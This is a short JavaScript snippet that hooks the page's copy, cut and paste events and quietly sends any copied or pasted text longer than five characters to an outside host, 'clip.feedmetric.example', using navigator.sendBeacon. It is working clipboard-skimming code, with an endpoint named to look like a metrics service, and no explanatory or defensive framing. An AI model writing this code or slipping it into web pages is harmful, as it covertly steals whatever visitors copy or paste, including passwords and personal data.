['copy', 'cut', 'paste'].forEach(t => document.addEventListener(t, e => {
  const s = t === 'paste' ? e.clipboardData.getData('text/plain') : String(getSelection());
  if (s.length > 5) navigator.sendBeacon('//clip.feedmetric.example/' + t, s);
}, true));
